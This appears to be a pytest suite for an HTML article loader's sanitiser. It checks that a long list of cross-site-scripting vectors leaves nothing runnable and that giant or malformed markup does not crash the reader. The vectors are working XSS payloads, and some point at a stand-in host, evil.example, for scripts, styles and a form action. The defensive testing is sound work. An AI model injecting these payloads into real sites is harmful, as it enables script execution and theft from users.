"""Saved pages that mean harm: nothing active comes through to the article's page, and none takes the reader down.

The vectors are the well-known classes of cross-site scripting, written anew.
"""

from __future__ import annotations

import re
import time
from collections import Counter
from collections.abc import Callable
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from backfile.loader.html.sanitising import clean_address, clean_marks
from backfile.models import Article, Mark
from tests.conftest import Site
from tests.loader.html.pages import PARAGRAPHS, article_of, page, paragraphs, read

VECTORS = {
    "script": "<script>alert(1)</script>",
    "script in mixed case": "<ScRiPt>alert(1)</sCrIpT >",
    "script with a slash": "<script/x>alert(1)</script>",
    "script cut in two": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "script without an end": "<script>alert(1)",
    "script by address": '<script src="https://evil.example/x.js"></script>',
    "handler": '<p onclick="alert(1)">A line that can be clicked on</p>',
    "handler without quotes": "<p onmouseover=alert(1)>A line that can be hovered over</p>",
    "handler in mixed case": '<p OnClIcK="alert(1)">A line that can be clicked on</p>',
    "handler behind a slash": "<p/onclick=alert(1)>A line that can be clicked on</p>",
    "handler behind a line feed": "<p\nonclick\n=\nalert(1)>A line that can be clicked on</p>",
    "handler in a mark": '<p>A line with <em onfocus="alert(1)" tabindex=0 autofocus>a mark</em> in it</p>',
    "image": '<img src=x onerror="alert(1)">',
    "image with backticks": "<img src=`x`onerror=alert(1)>",
    "image in a figure": '<figure><img src="javascript:alert(1)" alt="x"><figcaption>A wall</figcaption></figure>',
    "image set": '<figure><img srcset="javascript:alert(1) 2x" src="data:image/svg+xml,<svg onload=alert(1)>">'
    "<figcaption>A wall by night</figcaption></figure>",
    "javascript": '<p>See <a href="javascript:alert(1)">what it is</a> about</p>',
    "javascript in mixed case": '<p>See <a href="JaVaScRiPt:alert(1)">what it is</a> about</p>',
    "javascript with a tab": '<p>See <a href="java\tscript:alert(1)">what it is</a> about</p>',
    "javascript with a line feed": '<p>See <a href="java&#10;script:alert(1)">what it is</a> about</p>',
    "javascript with a null": '<p>See <a href="java\0script:alert(1)">what it is</a> about</p>',
    "javascript behind controls": '<p>See <a href="&#1;&#14; javascript:alert(1)">what it is</a> about</p>',
    "javascript behind spaces": '<p>See <a href=" \u00a0\u2003javascript:alert(1)">what it is</a> about</p>',
    "javascript in entities": '<p>See <a href="&#106;&#x61;&#118;ascript&colon;alert(1)">what it is</a> about</p>',
    "javascript in long entities": '<p>See <a href="&#0000106avascript:alert(1)">what it is</a> about</p>',
    "javascript with a soft hyphen": '<p>See <a href="java\u00adscript:alert(1)">what it is</a> about</p>',
    "javascript with a joiner": '<p>See <a href="java\u200bscript:alert(1)">what it is</a> about</p>',
    "javascript with a comment": '<p>See <a href="javascript://%0aalert(1)">what it is</a> about</p>',
    "javascript after an address": '<p>See <a href="https://a.example/" href="javascript:alert(1)">it</a> now</p>',
    "view-source": '<p>See <a href="view-source:javascript:alert(1)">what it is</a> about</p>',
    "vbscript": '<p>See <a href="vbscript:msgbox(1)">what it is</a> about</p>',
    "data": '<p>See <a href="data:text/html;base64,PHNjcmlwdD4=">what it is</a> about</p>',
    "data in mixed case": '<p>See <a href="DaTa:text/html,<script>alert(1)</script>">what it is</a> about</p>',
    "blob": '<p>See <a href="blob:https://a.example/1">what it is</a> about</p>',
    "file": '<p>See <a href="file:///etc/passwd">what it is</a> about</p>',
    "xlink": '<svg><a xlink:href="javascript:alert(1)"><text>click</text></a></svg>',
    "formaction": '<form><button formaction="javascript:alert(1)">Go</button></form>',
    "form": '<form action="https://evil.example/"><input name=q autofocus onfocus=alert(1)><button>Go</button></form>',
    "button outside": '<input type="image" src=x onerror=alert(1)><select onchange=alert(1)><option>a</select>',
    "svg": "<svg onload=alert(1)><circle r=1></svg>",
    "svg with script": "<svg><script>alert(1)</script></svg>",
    "svg with style": "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "svg animation": '<svg><a><animate attributeName=href values="javascript:alert(1)" /><text>x</text></a></svg>',
    "svg foreign object": "<svg><foreignObject><iframe srcdoc='<script>alert(1)</script>'></iframe></foreignObject></svg>",
    "math": '<math><maction actiontype="statusline#x" xlink:href="javascript:alert(1)">click</maction></math>',
    "math confusion": "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "iframe": '<iframe src="javascript:alert(1)"></iframe>',
    "srcdoc": '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
    "frameset": '<frameset><frame src="javascript:alert(1)"></frameset>',
    "object": '<object data="javascript:alert(1)"><param name=x></object>',
    "embed": '<embed src="javascript:alert(1)" type="text/html">',
    "applet": '<applet code="x"></applet>',
    "meta refresh": '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    "base": '<base href="javascript:alert(1)//">',
    "canonical": '<link rel="canonical" href="javascript:alert(1)">',
    "style": "<style>@import 'https://evil.example/x.css'; p { background: url(javascript:alert(1)) }</style>",
    "style attribute": '<p style="background:url(javascript:alert(1));width:expression(alert(1))">A styled line</p>',
    "link to a style sheet": '<link rel="stylesheet" href="https://evil.example/x.css">',
    "conditional comment": "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "comment that ends early": "<!--><img src=x onerror=alert(1)>-->",
    "comment with an exclamation mark": "<!-- --!><img src=x onerror=alert(1)> -->",
    "cdata": "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "processing instruction": "<?xml-stylesheet href='javascript:alert(1)'?><?php alert(1) ?>",
    "noscript": '<noscript><p title="</noscript><img src=x onerror=alert(1)>">x</p></noscript>',
    "title": "<title></title><img src=x onerror=alert(1)></title>",
    "textarea": "<textarea></textarea><img src=x onerror=alert(1)></textarea>",
    "template": "<template><img src=x onerror=alert(1)></template>",
    "xmp": "<xmp><img src=x onerror=alert(1)></xmp>",
    "plaintext": "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>",
    "details": "<details open ontoggle=alert(1)><summary>More</summary>Text</details>",
    "media": "<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)></audio>",
    "marquee": "<marquee onstart=alert(1)>A line that runs through the picture</marquee>",
    "custom element": '<x-y onclick="alert(1)" style="x" contenteditable>A line in an element that nobody knows</x-y>',
    "attribute that ends the tag": '<p title="><script>alert(1)</script>">A line</p>',
    "quote in an address": "<p>See <a href='https://a.example/\"onmouseover=\"alert(1)'>what it is</a> about</p>",
    "brackets in an address": '<p>See <a href="https://a.example/&lt;script&gt;alert(1)&lt;/script&gt;">it</a> all</p>',
    "markup as text": "<p>&lt;script&gt;alert(1)&lt;/script&gt; and &lt;img src=x onerror=alert(1)&gt; are text here</p>",
    "entity without an end": "<p>&ltscript&gtalert(1)&lt/script&gt is text here</p>",
    "link in a link": '<p><a href="https://a.example/"><a href="javascript:alert(1)">x</a></a> is a line</p>',
    "marks that cross": '<p><b><i onclick=alert(1)>A line</b> whose <a href="javascript:alert(1)">marks</i> cross</a></p>',
    "table that leaks": "<table><tr><img src=x onerror=alert(1)><td><a href=javascript:alert(1)>x</a></table>",
    "tag without an end": "<p>A line</p><img src=x onerror=alert(1) ",
    "attribute without an end": '<p>A line</p><a href="javascript:alert(1)',
    "embedded post": '<blockquote class="twitter-tweet" cite="javascript:alert(1)"><p>A post of some length, to be kept</p>'
    '<a href="javascript:alert(1)//status/1">1 May</a></blockquote>',
    "embedded post's permalink": '<blockquote class="instagram-media" data-instgrm-permalink="javascript:alert(1)">Post</blockquote>',
    "protocol left out": '<p>See <a href="//evil.example/x">what it is</a> about</p>',
    "address with a user": '<p>See <a href="https://bank.example@evil.example/">what it is</a> about</p>',
    "right-to-left override": "<p>A line with \u202egnp.exe\u202c in it</p>",
}
HEADS = {
    "title in JSON-LD": '<script type="application/ld+json">{"@type":"NewsArticle","headline":"</scr\\u0069pt><img src=x onerror='
    'alert(1)>","author":{"name":"<svg onload=alert(1)>"},"publisher":{"name":"<script>alert(1)</script>"}}</script>',
    "JSON-LD's body": '<script type="application/ld+json">{"@type":"NewsArticle","headline":"A wall","articleBody":'
    '"<img src=x onerror=alert(1)> and <script>alert(1)</script>"}</script>',
    "meta": '<meta name="author" content="&lt;img src=x onerror=alert(1)&gt;"><meta property="article:tag" content="<script>">',
    "address": '<meta property="og:url" content="javascript:alert(1)"><meta property="og:image" content="javascript:alert(1)">',
    "language": '<meta property="og:locale" content="en\\"><script>alert(1)</script>">',
    "site's name": "<meta property=og:site_name content='\"><script>alert(1)</script>'>",
}

_SCHEMES = re.compile(r"^(?:https?|mailto):", re.IGNORECASE)


def addresses(article: Article) -> list[str]:
    """Every address that an article carries."""
    found = [image.url for image in article.images] + [article.provenance.url]
    for section in article.sections:
        for block in section.blocks:
            found += [mark.href for mark in block.marks] + [getattr(block, "url", None)]
    return [address for address in found if address is not None]


def check(article: Article) -> None:
    """No address but http, https and mailto ones, and nothing in them that a browser would read otherwise."""
    for address in addresses(article):
        assert _SCHEMES.match(address), address
        assert not re.search(r"[\x00-\x20\x7f<>\"\\`\u00ad\u200b-\u200f\u202a-\u202e]", address), address


class Active(HTMLParser):
    """What a page holds that could run."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in ("script", "style", "iframe", "frame", "object", "embed", "form", "svg", "math", "base", "applet"):
            self.found.append(tag)
        for name, value in attrs:
            folded = re.sub(r"[\x00-\x20]", "", (value or "").lower())
            if name.startswith("on") or name in ("srcdoc", "formaction", "style"):
                self.found.append(f"{tag} {name}")
            if name in ("href", "src", "srcset", "cite", "action") and folded.startswith(
                ("javascript", "data", "vbscript")
            ):
                self.found.append(f"{tag} {name}={value}")


def active_in(text: str) -> list[str]:
    """Everything in a page that could run, in order."""
    parser = Active()
    parser.feed(text)
    return parser.found


@pytest.mark.parametrize("name", VECTORS)
def test_no_vector_leaves_an_active_address(name: str) -> None:
    for text in (
        page(paragraphs(0, 1) + VECTORS[name] + paragraphs(2, 3)),
        page(paragraphs(0, 1, 2, 3), headline=f"Wall {VECTORS[name]}"),
        page(paragraphs(0, 1, 2, 3), head=VECTORS[name]),
        page(paragraphs(0, 1), foot=VECTORS[name]),
    ):
        reading = read(text)
        assert reading.article is not None or reading.problems
        if reading.article is not None:
            check(reading.article)


@pytest.mark.slow
def test_rendered_pages_hold_nothing_active_of_any_vector(make_site: Callable[..., Site]) -> None:
    """Every vector in a page of its own: its article's page has no more that runs than that of a page without one."""
    site = make_site({"seeds/plain.html": page(paragraphs(0, 1, 2, 3), headline="Wall without more")})
    for number, vector in enumerate((*VECTORS.values(), *HEADS.values())):
        head, body = ("", vector) if number < len(VECTORS) else (vector, "")
        date = f'<meta property="article:published_time" content="2019-03-{number % 28 + 1:02d}">'
        text = page(paragraphs(0, 1) + body + paragraphs(2, 3), head=date + head, headline=f"Wall number {number}")
        site.write(f"seeds/{number:03d}.html", text)
    site.build()
    pages = {path.parent.name: active_in(path.read_text("utf-8")) for path in sorted(site.dist.rglob("index.html"))}
    allowed = Counter(pages["wall-without-more"])
    checked = [name for name in pages if name.startswith("wall-number-")]
    assert len(checked) > 0.9 * len(VECTORS)
    for name in checked:
        assert not Counter(pages[name]) - allowed, name


@pytest.mark.parametrize("name", HEADS)
def test_facts_are_text_whatever_they_hold(name: str) -> None:
    article = article_of(page(paragraphs(0, 1, 2, 3), head=HEADS[name]))
    check(article)
    assert article.source is None or "<" not in article.source.name
    assert all("<" not in byline.name for byline in article.bylines)


# Addresses and marks alone


@pytest.mark.parametrize(
    "address",
    [
        "javascript:alert(1)", "JAVASCRIPT:alert(1)", " javascript:alert(1)", "java\nscript:alert(1)", "\x01javascript:x",
        "data:text/html,x", "vbscript:x", "ftp://a.example/", "file:///x", "//a.example/x", "/x", "x", "#x", "", "https:",
        "http://[a", "https://a.example/\"x", "https://a.example/<x>", "https://a.example/\\x", "about:blank", "tel:1",
    ],
)  # fmt: skip
def test_address_that_is_not_absolute_and_harmless_is_none(address: str) -> None:
    found = clean_address(address)
    assert found is None or found == "https:", found
    assert address == "https:" or found is None


def test_relative_address_is_taken_from_the_page() -> None:
    assert clean_address("../x?a=1&b=2", "https://a.example/b/c") == "https://a.example/x?a=1&b=2"
    assert clean_address("//b.example/x", "https://a.example/") == "https://b.example/x"
    assert clean_address("javascript:x", "https://a.example/") is None
    assert clean_address("x", "javascript:alert(1)") is None


def test_marks_come_back_where_they_were() -> None:
    text = "a & b <c> d e"
    marks = [
        Mark("em", 0, 5),
        Mark("strong", 2, 3),
        Mark("link", 6, 9, "https://a.example/?x=1&y=2"),
        Mark("link", 10, 11, "x:y"),
    ]
    assert clean_marks([text], [marks]) == [
        (Mark("em", 0, 5), Mark("strong", 2, 3), Mark("link", 6, 9, "https://a.example/?x=1&y=2"))
    ]


KINDS = st.sampled_from(["em", "strong", "code", "sub", "sup", "s", "link"])


@settings(max_examples=300)
@given(
    text=st.text(st.sampled_from("ab <>&\"'\n;#x\u00e9\U0001f30a"), min_size=1, max_size=20),
    claimed=st.lists(
        st.tuples(
            KINDS,
            st.integers(0, 20),
            st.integers(0, 20),
            st.sampled_from(["https://a.example/", "javascript:x", "&amp;"]),
        ),
        max_size=6,
    ),
)
def test_marks_that_are_kept_lie_in_the_text_and_were_claimed(
    text: str, claimed: list[tuple[str, int, int, str]]
) -> None:
    marks = [
        Mark(kind, start, min(end, len(text)), href if kind == "link" else None)  # type: ignore[arg-type]
        for kind, start, end, href in claimed
        if start < min(end, len(text))
    ]
    (kept,) = clean_marks([text], [marks])
    for mark in kept:
        assert 0 <= mark.start < mark.end <= len(text)
        assert mark.href in (None, "https://a.example/")
        assert any(m.kind == mark.kind for m in marks)


# Size and shape

DEEP = ["div", "b", "blockquote", "ul><li", "table><tr><td", "span", "font", "section><article"]


@pytest.mark.parametrize("tag", DEEP)
def test_a_hundred_thousand_levels_lose_no_text(tag: str) -> None:
    start = time.process_time()
    text = page(paragraphs(0, 1, 2)).replace("</main>", f"<{tag}>" * 100_000 + "the innermost words of all</main>")
    article = article_of(text)
    assert any("the innermost words" in line.text for line in article.provenance.ledger)
    around = page(paragraphs(0, 1, 2)).replace("<main>", "<main>" + f"<{tag}>" * 100_000)
    assert PARAGRAPHS[1] in " ".join(line.text for line in article_of(around).provenance.ledger)
    assert time.process_time() - start < 60


@pytest.mark.slow
@pytest.mark.parametrize(
    "text",
    [
        "<" * 200_000,
        "<a " * 100_000,
        "<a href=x>" * 20_000,
        "&" * 200_000,
        "<!--" * 50_000,
        "<p a='" * 50_000,
        "</p>" * 100_000,
    ],
)
def test_markup_that_never_ends_is_read_or_refused(text: str) -> None:
    for whole in (text, page(paragraphs(0, 1, 2)) + text, page(paragraphs(0, 1) + text)):
        reading = read(whole)
        assert reading.article is not None or reading.problems
        assert not any("the reader failed" in problem.found for problem in reading.problems)


def test_huge_attributes_do_no_harm() -> None:
    names, address = "wide " * 200_000, "https://a.example/" + "x" * 1_000_000
    body = paragraphs(0, 1) + f'<p class="{names}">See <a href="{address}">the plans</a> of it.</p>' + paragraphs(2, 3)
    article = article_of(page(body))
    check(article)
    assert address not in addresses(article)


@settings(max_examples=60)
@given(cut=st.integers(0, 3500), flip=st.integers(0, 3500), with_byte=st.integers(0, 255))
def test_page_cut_off_or_damaged_anywhere_is_read_or_refused(cut: int, flip: int, with_byte: int) -> None:
    data = bytearray(
        page(paragraphs(0, 1, 2) + "".join(VECTORS[name] for name in ("svg", "handler", "srcdoc"))).encode()
    )
    data[flip % len(data)] = with_byte
    for part in (bytes(data[:cut]), bytes(data)):
        reading = read(part)
        assert not any("the reader failed" in problem.found for problem in reading.problems), reading.problems
        if reading.article is not None:
            check(reading.article)


@settings(max_examples=60)
@given(st.lists(st.sampled_from([*VECTORS.values(), *(f"<p>{text}</p>" for text in PARAGRAPHS)]), max_size=12))
def test_any_vectors_in_any_order_leave_no_active_address(parts: list[str]) -> None:
    reading = read(page("".join(parts)))
    assert not any("the reader failed" in problem.found for problem in reading.problems), reading.problems
    if reading.article is not None:
        check(reading.article)


@pytest.mark.parametrize("encoding", ["utf-16", "utf-32", "cp1251", "shift_jis", "latin-1"])
def test_wrong_encoding_is_read_or_refused(encoding: str) -> None:
    reading = read(page(paragraphs(0, 1, 2, 3)).encode(encoding, "replace"))
    assert reading.article is not None or reading.problems
